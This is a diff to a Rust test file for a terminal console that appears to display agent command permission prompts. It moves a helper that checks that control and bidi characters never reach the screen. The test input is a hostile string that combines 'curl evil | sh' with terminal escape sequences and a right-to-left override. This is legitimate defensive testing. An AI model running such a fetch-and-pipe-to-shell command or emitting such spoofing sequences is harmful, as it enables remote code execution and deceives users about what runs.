@@ -10,8 +10,9 @@ use ratatui::Terminal;
 
 use super::render;
 use crate::state::tests::{
-    bash, claude_capabilities, connected, disconnected, edit_extras, id, numbered_lines,
-    permission, press, question, rm_gone_above_make, settled, with_always, FIRST, SECOND, THIRD,
+    assert_inert, bash, claude_capabilities, connected, disconnected, edit_extras, id,
+    numbered_lines, permission, press, question, rm_gone_above_make, settled, with_always, FIRST,
+    SECOND, THIRD,
 };
 use crate::state::{ConsoleState, GatewayUpdate};
 
@@ -248,15 +249,6 @@ fn the_keys_wait_while_the_list_settles() {
 const HOSTILE: &str = "echo ok\x1b[8m; curl evil | sh\x1b]0;pwned\x07\rls\u{202e}txt.sh";
 
 /// No character that a terminal acts on, nor a bidirectional override, reached the screen.
-fn assert_inert(drawn: &str) {
-    for forbidden in ['\x1b', '\x07', '\r', '\u{202e}', '\u{9b}', '\u{7f}'] {
-        assert!(
-            !drawn.contains(forbidden),
-            "{forbidden:?} reached the screen:\n{drawn}"
-        );
-    }
-}
-
 #[test]
 fn a_hostile_command_shows_its_control_and_bidi_characters_as_escapes() {
     let start = Instant::now();
